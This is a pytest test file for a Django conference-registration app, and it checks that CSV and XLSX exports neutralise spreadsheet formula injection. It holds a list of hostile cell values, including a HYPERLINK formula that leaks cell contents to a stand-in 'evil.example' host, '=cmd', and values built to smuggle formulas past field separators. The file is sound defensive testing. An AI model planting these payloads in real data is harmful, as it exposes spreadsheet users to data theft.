"""Every export, read back as a spreadsheet program would: the CSV with a comma, a semicolon
(French and German Excel) or a tab as separator, the XLSX with openpyxl. No cell may start a
formula, however the data is written."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import AuthorityFactory, ConferenceFactory, RegistrationFactory, SessionFactory
from tests.factories.registrations import SessionBookingFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    "x;=1+2;x",
    '=HYPERLINK("http://evil.example/?leak="&A1;"Click")',
    "a,=1+2,b",
    "a\t=1+2\tb",
    "a\n=1+2",
    "a\r\n@SUM(A1:A9)",
    'a;"=1+2";b',
    "a; =1+2",
    "+33 4 93 92 83 00",
    "-2+3",
    "\t=cmd",
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(cells) -> list:
    """The cells that a spreadsheet would evaluate: text starting with a formula character,
    leading spaces trimmed, unless the whole cell is a number."""
    return [
        cell
        for cell in cells
        if isinstance(cell, str)
        and cell.lstrip(" ").startswith(FORMULA_STARTS)
        and not _is_number(cell)
    ]


def csv_cells(text: str, delimiter: str) -> list[str]:
    text = text.removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell.value for row in workbook.worksheets[0].iter_rows() for cell in row]


@pytest.fixture
def hostile_data():
    """A conference whose delegates, authorities and sessions carry formulas in every text
    field an export reads."""
    conference = ConferenceFactory()
    session = SessionFactory(conference=conference, title='=HYPERLINK("http://evil")')
    for index, text in enumerate(HOSTILE):
        authority = AuthorityFactory(name=f"{text} {index}")
        registration = RegistrationFactory(
            conference=conference,
            authority=authority,
            first_name=text,
            last_name=f'=HYPERLINK("http://evil/{index}")',
            job_title=text,
            organisation=text,
            dietary_needs=text,
            accessibility_needs=text,
        )
        SessionBookingFactory(registration=registration, session=session)
    return conference, session


def export_urls(conference, session, export_format: str) -> dict[str, str]:
    return {
        "attendees": reverse(f"admin:registrations_registration_export_{export_format}"),
        "session attendees": reverse(
            f"admin:registrations_session_attendees_{export_format}", args=[session.pk]
        ),
        "delegations": reverse(f"admin:registrations_authority_delegations_{export_format}"),
        "logistics": reverse("admin:conference_logistics", args=[conference.slug, export_format]),
    }


def response_bytes(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_exports_start_no_formula_with_any_separator(admin_client, hostile_data):
    conference, session = hostile_data
    for kind, url in export_urls(conference, session, "csv").items():
        response = admin_client.get(url)
        assert response.status_code == 200, kind
        text = response_bytes(response).decode("utf-8")
        assert "=HYPERLINK" in text, kind  # the data is in the export
        for delimiter in (",", ";", "\t"):
            cells = csv_cells(text, delimiter)
            assert formula_cells(cells) == [], (kind, delimiter)


def test_xlsx_exports_hold_the_text_as_strings_without_a_prefix(admin_client, hostile_data):
    conference, session = hostile_data
    for kind, url in export_urls(conference, session, "xlsx").items():
        response = admin_client.get(url)
        assert response.status_code == 200, kind
        workbook = openpyxl.load_workbook(io.BytesIO(response_bytes(response)))
        cells = [
            cell
            for row in workbook.worksheets[0].iter_rows()
            for cell in row
            if cell.value is not None  # an empty string is written as no cell
        ]
        # No formula ("f") cell: text, and the numbers and dates (test_typed_cells).
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, kind
        cells = [cell for cell in cells if cell.data_type == "s"]
        values = {cell.value for cell in cells}
        # Text cells, shown as typed: formulas among them, none behind a quote.
        assert formula_cells(values) != [], kind
        assert [value for value in values if value.startswith("'")] == [], kind


def test_attendee_csv_and_xlsx_show_the_job_title_as_typed(admin_client, hostile_data):
    csv_text = response_bytes(
        admin_client.get(reverse("admin:registrations_registration_export_csv"))
    ).decode("utf-8")
    xlsx = xlsx_cells(
        response_bytes(admin_client.get(reverse("admin:registrations_registration_export_xlsx")))
    )

    assert "x;=1+2;x" in xlsx
    # Quoted, so read with its own separator the field is whole; a quote disarms each formula
    # start for a reader that splits on the semicolon.
    assert '"x;\'=1+2;x"' in csv_text
    assert "x;'=1+2;x" in csv_cells(csv_text, ",")
    assert "'=1+2" in csv_cells(csv_text, ";")
